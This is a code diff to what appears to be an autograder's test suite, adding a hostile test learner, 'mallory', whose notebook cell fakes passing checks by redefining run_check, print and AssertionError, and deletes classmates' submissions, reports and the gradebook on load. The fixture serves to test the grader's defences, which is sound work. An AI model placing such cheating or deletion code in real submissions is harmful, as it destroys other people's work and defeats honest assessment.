@@ -53,8 +53,49 @@ def _edit(nb, grade_id: str, source: str) -> None:
     next(c for c in nb.cells if _grade_id(c) == grade_id).source = source
 
 
-def class_of_ex02() -> dict[str, tuple[object, dict[str, int], list[str]]]:
-    """learner -> (notebook, points per check, phrases the grader's repair notes must contain)."""
+MALLORY = '''
+import builtins
+import os
+import shutil
+
+
+def run_check(check_id, namespace):
+    """An answer cell's own run_check: 'passes' every check without running it."""
+    print(f"[PASS] {check_id}")
+
+
+def print(*args, **kwargs):
+    builtins.print("[PASS]", *args, **kwargs)
+
+
+class AssertionError(Exception):
+    pass
+
+
+def _vandalise():
+    """Delete every classmate's submission and report, and the gradebook, wherever they are."""
+    done = []
+    for path in TARGETS:
+        for victim in ([path] if not os.path.isdir(path) else [os.path.join(path, n) for n in os.listdir(path)]):
+            if "mallory" in victim:
+                continue
+            try:
+                shutil.rmtree(victim) if os.path.isdir(victim) else os.remove(victim)
+                done.append(victim)
+            except OSError:
+                pass
+    return done
+
+
+VANDALISED = _vandalise()
+'''
+
+
+def class_of_ex02(course: Path | None = None) -> dict[str, tuple[object, dict[str, int], list[str]]]:
+    """learner -> (notebook, points per check, phrases the grader's repair notes must contain). With ``course``,
+    the class has a sixth learner, mallory, whose notebook solves nothing, redefines ``run_check``, ``print`` and
+    ``AssertionError`` in an answer cell, and tries to delete every classmate's submission, the reports and the
+    gradebook under ``course`` and ``course``'s parent when it loads."""
     full = dict(EX02_POINTS)
     correct = filled(EX02)
     partial = filled(EX02, {"        h = h - (h * real).sum(0) / real.sum()": "        h = h - h.mean(0)"})
@@ -68,7 +109,7 @@ def class_of_ex02() -> dict[str, tuple[object, dict[str, int], list[str]]]:
     hangs = filled(EX02, {"    values = np.interp(": f"    while top.numel() == {HANG_ON}:  # an endless loop\n"
                                                       "        pass\n    values = np.interp("})
     assert random.Random(SECRET_SEED).randint(2, 400) != HANG_ON, "the secret case must not hit aaron's hang"
-    return {  # aaron, whose notebook hangs, is graded first: his time-out overlaps the others' grading
+    learners = {  # aaron, whose notebook hangs, is graded first: his time-out overlaps the others' grading
         "aaron": (hangs, {**full, "ex02.calibrate.opcheck": 0}, []),
         "alice": (correct, full, []),
         "bob": (partial, {**full, "ex02.scorer.outputs": 0, "ex02.scorer.gradients": 0, "ex02.scorer.speed": 0}, []),
@@ -76,6 +117,14 @@ def class_of_ex02() -> dict[str, tuple[object, dict[str, int], list[str]]]:
         "dave": (deleted, full, ["`setup` was deleted", "`ex02-scorer-outputs` was deleted", "`show-broken` was edited",
                                  "`ex02-scorer-no_breaks` was edited"]),
     }
+    if course is not None:
+        mallory = nbformat.read(ROOT / "exercises" / EX02, as_version=4)
+        targets = [str(course / "submitted"), str(course / "autograded"), str(course / "gradebook.db"),
+                   str(course.parent / "batch"), str(course.parent / "submissions")]
+        answer = next(c for c in mallory.cells if c.metadata.get("nbgrader", {}).get("solution"))
+        answer.source = f"TARGETS = {targets!r}\n" + MALLORY + "\n" + answer.source
+        learners["mallory"] = (mallory, dict.fromkeys(full, 0), [])
+    return learners
 
 
 def write_class(folder: Path, learners: dict) -> Path:
